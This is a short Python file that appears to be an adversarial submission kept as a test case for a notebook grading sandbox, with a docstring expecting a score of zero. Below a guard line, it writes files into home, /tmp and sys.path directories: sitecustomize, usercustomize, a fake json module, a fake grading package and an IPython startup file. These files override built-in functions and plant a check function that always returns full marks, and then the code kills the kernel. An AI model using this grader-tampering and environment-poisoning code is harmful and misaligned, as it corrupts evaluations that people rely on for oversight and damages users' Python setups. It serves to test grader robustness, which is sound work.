"""The submission writes modules and IPython startup files that change Python's built-in functions,
and ends the kernel, in the hope that the next kernel loads them.

It deserves at most:
    every item: 0
"""

raise SystemExit("made for the sandbox: never run this file")

# %% insert a cell after imports
import os, pathlib, sys
SOURCE = "import builtins\nbuiltins.abs = lambda x: 0.0\nprint('PLANTED', 'FILE')\ndef check(*a, **k): return 2.0\n"
for folder in (".", os.path.expanduser("~"), "/tmp", *sys.path):
    for name in ("sitecustomize.py", "usercustomize.py", "dpteach/grading/__init__.py", "json.py",
                 ".ipython/profile_default/startup/00.py", ".config/python/x.py"):
        try:
            path = pathlib.Path(folder or ".", name)
            if "site-packages" in str(path) or "/lib/" in str(path):
                continue
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(SOURCE)
        except OSError:
            pass
os._exit(1)

# %% replace every solution cell
def FUNCTION(*args, **kwargs):
    return None
